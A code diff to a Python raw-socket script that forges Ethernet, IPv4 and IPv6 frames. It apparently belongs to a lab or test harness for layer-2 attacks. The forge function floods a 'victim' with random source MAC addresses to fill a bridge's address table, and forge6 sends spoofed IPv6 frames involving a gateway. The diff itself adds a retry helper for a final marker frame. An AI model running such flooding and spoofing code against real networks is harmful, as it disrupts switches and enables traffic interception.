@@ -12,6 +12,7 @@ import random
 import socket
 import struct
 import sys
+import time
 
 PORT = 9999
 DONE = b"done"
@@ -152,6 +153,14 @@ def packet_socket():
     return sock
 
 
+def send_last(sock, frame):
+    """Send it several times: one alone may find a queue full."""
+    for _ in range(20):
+        with contextlib.suppress(OSError):
+            sock.send(frame)
+        time.sleep(0.02)
+
+
 def forge(parties):
     """Send all of them, then one that is honest, and says that it is the last."""
     me, victim = parties["me"], parties["victim"]
@@ -161,9 +170,9 @@ def forge(parties):
         # As many addresses as would fill the bridge's table, if it learned them.
         for _ in range(parties.get("flood", 0)):
             source = f"02:{random.randbytes(5).hex(':')}"
-            with contextlib.suppress(BlockingIOError):
+            with contextlib.suppress(OSError):  # ENOBUFS: the other end does not keep up
                 sock.send(ether(victim[0], source, ETH_IP, ip(me[1], victim[1], 17, udp(b"flood"))))
-        sock.send(ether(victim[0], me[0], ETH_IP, ip(me[1], victim[1], 17, udp(DONE))))
+        send_last(sock, ether(victim[0], me[0], ETH_IP, ip(me[1], victim[1], 17, udp(DONE))))
 
 
 def sniff(parties):
@@ -355,7 +364,7 @@ def forge6(parties):
     with packet_socket() as sock:
         for name, frame in forged6(me, victim, parties["sister"], parties["gateway"]):
             tell(name.replace(": ", " "), sock.send, frame)
-        sock.send(ether(victim[0], me[0], ETH_IPV6, ipv6(me[1], victim[1], 17, udp6(me[1], victim[1], DONE))))
+        send_last(sock, ether(victim[0], me[0], ETH_IPV6, ipv6(me[1], victim[1], 17, udp6(me[1], victim[1], DONE))))
 
 
 def detour6(parties):
